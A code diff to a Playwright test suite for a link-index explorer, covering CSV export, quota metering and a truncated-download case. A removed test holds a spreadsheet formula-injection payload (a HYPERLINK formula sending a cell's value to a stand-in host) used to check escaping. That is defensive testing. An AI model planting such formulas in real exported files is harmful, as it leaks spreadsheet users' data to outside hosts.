@@ -12,8 +12,10 @@ from chromium import Offline, screenshot
 from explain_web import KNOWN, explain_web
 from indexed import build_a_newer_index, built_home
 from rpc import result_of, rpc
+from web import crafted_web
 
 from linkindex.accounts.keys import Credential, KeyStore
+from linkindex.accounts.meter import Meter
 from linkindex.accounts.quotas import DATA_ROWS, AccountStore, QuotaPolicy
 
 TARGET = "docs.python.org"  # crawled in the sample; links from other root domains
@@ -257,6 +259,8 @@ def test_the_linking_root_domains_table_pages_and_sorts_as_the_api_does(
     used = rows_used(demo_server, key)
     with page.expect_download() as download:
         page.get_by_role("button", name="Export CSV (every page) of linking root domains").click()
+    assert download.value.failure() is None  # waits for the whole file
+    assert download.value.suggested_filename == "linking-root-domains-ietf.org-root_domain.csv"
     exported = list(csv.DictReader(io.StringIO(download.value.path().read_text())))
     every = demo_server.all_pages(
         "linking_root_domains", **body, sort="source_spam_score", filter="external+not_deleted"
@@ -271,7 +275,7 @@ def test_the_linking_root_domains_table_pages_and_sorts_as_the_api_does(
         }
     assert set(exported[0]) >= {"root_domain", "domain_authority", "spam_score", "pages"}
     assert rows_used(demo_server, key) - used == 6
-    assert "Exported 6 linking root domains" in page.inner_text("#status")
+    assert "Exporting linking root domains" in page.inner_text("#status")
     assert page.errors == [] and page.failures == []
 
 
@@ -566,23 +570,34 @@ def spreadsheet_safe(text: str) -> str:
     return f"'{text}" if text[:1] in ("=", "+", "-", "@", "\t", "\r") else text
 
 
-def test_an_exported_text_that_looks_like_a_formula_is_escaped(demo_server, offline):
-    """Anchors and titles are what crawled pages say: in a CSV a spreadsheet opens, a formula
-    in one would run. Text cells starting =, +, -, @, tab or CR get an apostrophe; numbers,
-    negative ones included, are written as they are."""
-    page = offline().page()
-    page.goto(f"{demo_server.base_url}/explorer")
-    cells = ['=HYPERLINK("http://x/?"&A2,"y")', "+1", "-a", "@SUM(1)", "\tx", "plain, text", "a=b"]
-    written = page.evaluate(
-        """async (cells) => {
-            const table = await import("/assets/explorer/list_table.js");
-            return [...cells.map(table.csvCell), table.csvCell(-1), table.csvCell(0.5)];
-        }""",
-        cells,
+def test_an_export_cut_short_is_a_failed_download_not_a_short_file(
+    tmp_path_factory, serve, offline
+):
+    """The quota runs out between the export's pages (another call spent it): the browser
+    is told the file failed, rather than keeping the first page as if it were the list."""
+    server = serve(built_home(tmp_path_factory, crafted_web, "cut-short"))
+    key = server.credential
+    AccountStore(server.home.state / "keys.sqlite").set_quota(
+        key.access_id, DATA_ROWS, QuotaPolicy(60, "month", False)
     )
-    expected = [spreadsheet_safe(c) for c in cells]
-    expected = [
-        f'"{c.replace(chr(34), chr(34) * 2)}"' if '"' in c or "," in c else c for c in expected
-    ]
-    assert written == [*expected, "-1", "0.5"]
+    page = offline().page()
+    page.goto(f"{server.base_url}/explorer?target=t.com")
+    sign_in(page, key)
+    page.wait_for_selector("#overview-title")
+
+    def ticket_then_spend(route) -> None:
+        # Between the ticket (the quota covered the list's 51 rows) and the file, another
+        # call leaves 38 rows: the first page of 50 is sent and billed, the second refused.
+        # (The download itself is not routed: Playwright's routing would keep the file.)
+        ticket = route.fetch()
+        meter = Meter.open(server.home.state)
+        api_key = KeyStore(server.home.state / "keys.sqlite").active(key.access_id)
+        meter.charge(api_key, DATA_ROWS, 60 - 38 - meter.quota(api_key, DATA_ROWS).used)
+        route.fulfill(response=ticket)
+
+    page.route("**/explorer/exports", ticket_then_spend)
+    with page.expect_download() as download:
+        page.get_by_role("button", name="Export CSV (every page) of linking root domains").click()
+    assert download.value.failure() is not None
+    assert rows_used(server, key) == 60 - 38 + 50
     assert page.errors == []
